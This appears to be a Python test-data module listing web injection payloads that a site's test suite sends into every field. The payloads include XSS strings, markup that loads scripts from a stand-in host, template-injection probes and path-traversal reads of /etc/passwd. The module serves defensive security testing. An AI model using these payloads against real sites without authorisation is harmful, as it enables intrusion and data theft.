"""A compact table of strings that have broken other sites; every one is put into every field of a site."""

from __future__ import annotations

from typing import Final

RUN: Final = "window.canary=1;alert(1)"
"""What every payload tries to run; the tests look for its trace."""
AWAY: Final = "https://away.invalid/x"
"""Where payloads that load something would send a request."""

_ELEMENTS: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"</script><script>{RUN}</script>",
    f"<script src={AWAY}.js></script>",
    f"<script type=module>import('{AWAY}.js')</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<!--><script>{RUN}</script>-->",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}.png>",
    f'<img src="{AWAY}.png" srcset="{AWAY}.png 2x">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'/></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>开</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<style>@import '{AWAY}.css';*{{background:url({AWAY})}}</style>",
    f'<p style="background:url({AWAY})">色</p>',
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><button autofocus>送</button></form>",
    f"<video src={AWAY} autoplay onerror={RUN}></video>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<mark onmouseover={RUN}>标</mark>",
)
_ATTRIBUTES: Final = (
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onfocus='{RUN}' autofocus '",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"`-{RUN}-`",
    f'";{RUN}//',
    f"';{RUN}//",
    f"\\';{RUN}//",
    '{"@type":"Article"}</script>',
)
_ADDRESSES: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"\x01javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"view-source:{AWAY}",
    "file:///etc/passwd",
    "//away.invalid/x",
    "https:away.invalid",
    "\\\\away.invalid\\x",
    "../../../../etc/passwd",
    "..%2f..%2fetc/passwd",
)
_TEMPLATES: Final = (
    "{{ 7*7 }}",
    "{{ config.__class__.__mro__ }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "{% include 'base.html' %}",
    "{# 评 #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%s%n%(x)s{0.__class__}",
)
_CHARACTERS: Final = (
    "甲\x00乙\x1b[31m丙\x7f",
    "甲\u202e乙丙\u2066丁\u2069",
    "甲\u200b\u200d\ufeff乙",
    "甲\ue000\uf8ff乙",
    "甲\ufffe\uffff\ufdd0乙",
    "甲\U0001f468\u200d\U0001f469乙\U000e0041",
    "甲" + "\u0301" * 60 + "乙",
    "甲&amp;lt;script&amp;gt;乙&#0;&#x110000;&nbsp",
    "＜script＞alert（1）＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "__proto__",
    "constructor",
    "CON.html",
    "-----BEGIN-----",
)
PAYLOADS: Final = (*_ELEMENTS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_CHARACTERS)
